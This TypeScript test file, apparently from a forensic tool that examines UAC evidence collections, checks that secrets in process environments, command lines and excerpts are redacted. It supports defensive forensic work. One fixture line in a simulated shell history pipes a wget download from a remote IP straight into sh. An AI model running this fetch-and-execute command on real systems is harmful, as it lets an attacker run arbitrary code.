import assert from "node:assert/strict";
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { test } from "node:test";
import { caseJson } from "../../src/report/case-json.ts";
import { investigate } from "../../src/run/investigate.ts";
import { investigatedFiles, QUIET } from "../kit/investigated.ts";

const SECRET = "nobodys-secret-7f3a";
const FILES: Readonly<Record<string, string>> = {
  "[root]/etc/hostname": "web01\n",
  "uac.log": "2026-11-22 17:43:17 +0000 INF Unix-like Artifacts Collector 3.3.0\n",
  "live_response/process/proc/11/environ.txt": `API_TOKEN=${SECRET}\nAWS_SECRET_ACCESS_KEY=${SECRET}\n`,
  "live_response/process/proc/11/status.txt": "Name:\tapp\nPid:\t11\nPPid:\t1\n",
  "live_response/process/ps_-ef.txt":
    "UID          PID    PPID  C STIME TTY          TIME CMD\n" +
    `deploy        11       1  0 17:43 ?        00:00:03 ./app --token=${SECRET} --api-key ${SECRET}x\n`,
  "live_response/system/env.txt": `DB_PASSWORD=${SECRET}\n`,
};

/** A seed phrase of a line of which an excerpt shows eleven words: the twelfth would soon be guessed. */
const LONG = `wget -q http://203.0.113.9/x -O- | sh # ${"x".repeat(1_915)} ${"zoo ".repeat(11)}wrong`;

test("a phrase that an excerpt cuts off is not shown", async () => {
  const found = await investigatedFiles({ ".bash_history": Buffer.from(`${LONG}\n`) });
  const [step] = found.findings.flatMap(({ basis }) => basis);
  assert.match(step?.excerpt ?? "", /x{100} \[redacted\]$/);
});

/** The case of a collection with secrets, as text. */
async function caseText(showSecrets: boolean): Promise<string> {
  const folder = mkdtempSync(join(tmpdir(), "paydirt-test-"));
  try {
    for (const [path, text] of Object.entries(FILES)) {
      mkdirSync(dirname(join(folder, path)), { recursive: true });
      writeFileSync(join(folder, path), text);
    }
    const found = await investigate({ ...QUIET, evidence: [folder], showSecrets });
    return caseJson(found.case);
  } finally {
    rmSync(folder, { recursive: true });
  }
}

test("environments and command lines give no secret away, unless that is asked for", async () => {
  const hidden = await caseText(false);
  assert.ok(!hidden.includes(SECRET), hidden.slice(Math.max(0, hidden.indexOf(SECRET) - 200)).slice(0, 300));
  assert.match(hidden, /process 11 of deploy running: \.\/app --token=\[redacted\]/);
  const shown = await caseText(true);
  assert.match(shown, new RegExp(`--token=${SECRET}`));
  assert.doesNotMatch(shown, /AWS_SECRET_ACCESS_KEY/);
});
